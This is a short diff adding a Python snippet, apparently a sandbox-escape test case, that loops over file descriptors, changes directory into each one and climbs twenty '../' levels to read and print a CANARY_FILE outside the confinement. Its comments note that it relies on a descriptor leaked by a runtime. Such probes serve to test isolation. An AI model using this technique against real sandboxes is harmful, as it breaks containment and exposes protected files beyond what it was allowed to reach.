@@ -1,0 +1,9 @@
+# climbs from a descriptor that a runtime leaked
+# unsafe: a plain interpreter has none
+# ends: variously
+import os
+for fd in range(3, 1024):
+    try:
+        os.fchdir(fd)
+        print(open('../' * 20 + CANARY_FILE.lstrip('/')).read())
+    except OSError: pass
